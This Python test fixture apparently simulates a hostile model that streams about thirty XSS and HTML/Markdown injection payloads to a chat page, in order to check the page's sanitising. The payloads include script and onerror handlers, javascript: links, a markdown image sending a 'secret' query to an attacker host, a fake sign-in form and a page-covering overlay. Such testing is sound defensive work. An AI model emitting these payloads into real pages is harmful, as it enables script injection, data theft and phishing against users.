"""What a model may say to take over the page that shows it, or to learn what is on it.

Whatever runs pushes its name to `window.stolen` or opens a dialog; whatever is loaded comes from
`home`, and so does whatever is sent.
"""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from .servers import Server

END = "the end of the attack"
RUN = "(window.stolen = window.stolen || []).push"


def attacks(home: str) -> list[str]:
    """Each is said in a paragraph of its own."""
    return [
        f"<script>{RUN}('script')</script>",
        f"<script src={home}/script.js></script>",
        f"<img src={home}/html.png onerror=\"{RUN}('onerror'); alert('onerror')\">",
        "<img src=x onerror=alert('broken')>",
        f"![a picture]({home}/markdown.png?q=secret)",
        f"![a picture][ref]\n\n[ref]: {home}/reference.png",
        f"<iframe src={home}/frame srcdoc=\"<script>parent.stolen=['srcdoc']</script>\"></iframe>",
        f"<object data={home}/object></object><embed src={home}/embed>",
        f"<svg onload=\"alert('svg')\"><image href={home}/svg.png></image></svg>",
        f"<math><mtext><style><img src={home}/math onerror=alert('math')></style></mtext></math>",
        f"<style>@import url({home}/style.css); #chat-box {{ display: none }}</style>",
        f"<style>body {{ background: url({home}/body.png) }}</style>",
        f"<link rel=stylesheet href={home}/link.css><link rel=prefetch href={home}/prefetch>",
        f'<meta http-equiv=refresh content="0; url={home}/refresh"><base href={home}/>',
        f'<div style="position:fixed;inset:0;z-index:9;background:url({home}/div)">a cover</div>',
        f"<form action={home}/form><input name=password autofocus onfocus=alert('focus')></form>",
        f"<form action={home}/form><button autofocus>Sign in</button></form>",
        f"<video autoplay poster={home}/poster.png src={home}/video></video>",
        f"<audio autoplay src={home}/audio></audio>",
        "<evil-tag onclick=alert('tag')>a custom tag</evil-tag><x-y></x-y>",
        "[a link](javascript:alert('link'))",
        "<a href=\"javascript:alert('anchor')\">an anchor</a>",
        "<a href=\"data:text/html,<script>alert('data')</script>\">a data link</a>",
        f"[a good link]({home}/good)",
        f"$$\\href{{javascript:alert('latex')}}{{x}} \\includegraphics{{{home}/latex.png}}$$",
        f"```mermaid\ngraph TD; A[\"<img src={home}/mermaid onerror=alert('mermaid')>\"]\n```",
        f"```html\n<script src={home}/code.js></script><img src={home}/code.png>\n```",
        "<details open ontoggle=alert('toggle')><summary>more</summary>x</details>",
        f"<table background={home}/table.png><tr><td>cell</td></tr></table>",
    ]


async def villainous(server: Server, messages: list[dict[str, Any]]) -> AsyncIterator[str]:
    """All of it, for the home that the question names; in pieces, as tags come in a stream."""
    text = "\n\n".join([*attacks(messages[-1]["content"]), END])
    for at in range(0, len(text), 23):
        yield text[at : at + 23]
